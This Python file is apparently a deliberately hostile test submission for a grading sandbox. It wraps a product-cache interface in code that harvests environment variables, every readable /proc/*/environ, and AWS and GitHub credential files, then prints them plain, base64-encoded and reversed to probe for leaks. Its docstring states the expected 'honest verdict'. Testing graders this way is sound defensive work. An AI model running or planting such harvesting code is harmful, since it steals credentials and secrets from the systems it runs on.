"""Hostile: harvests every secret it can find — its environment, its parent's and every /proc/*/environ, the AWS
credential files — and prints them plain, base64 and reversed on every call; update_product raises with the
harvest. Honest verdict: the update checks fail with its exception; no grader secret appears in any output."""

import base64
import os
import pathlib

import _cache


def _harvest():
    found = dict(os.environ)
    readable = []
    for entry in pathlib.Path("/proc").iterdir():
        if entry.name.isdigit() or entry.name == "self":
            try:
                text = (entry / "environ").read_bytes().decode("utf-8", "replace")
            except OSError:
                continue
            readable.append(entry.name)
            for line in text.split("\0"):
                name, _, value = line.partition("=")
                if name:
                    found.setdefault(name, value)
    for path in ("~/.aws/credentials", "/root/.aws/credentials", "~/.config/gh/hosts.yml"):
        try:
            found[path] = pathlib.Path(path).expanduser().read_text()
        except OSError:
            pass
    return found, readable


def _leak():
    found, readable = _harvest()
    for name, value in found.items():
        print(f"LEAK {name}={value} b64={base64.b64encode(value.encode()).decode()} rev={value[::-1]}")
    return f"harvest: names={sorted(found)} environ_files={len(readable)}"


def get_product(category, sku):
    _leak()
    return _cache.get_product(category, sku)


def update_product(category, sku, changes):
    raise RuntimeError(_leak())
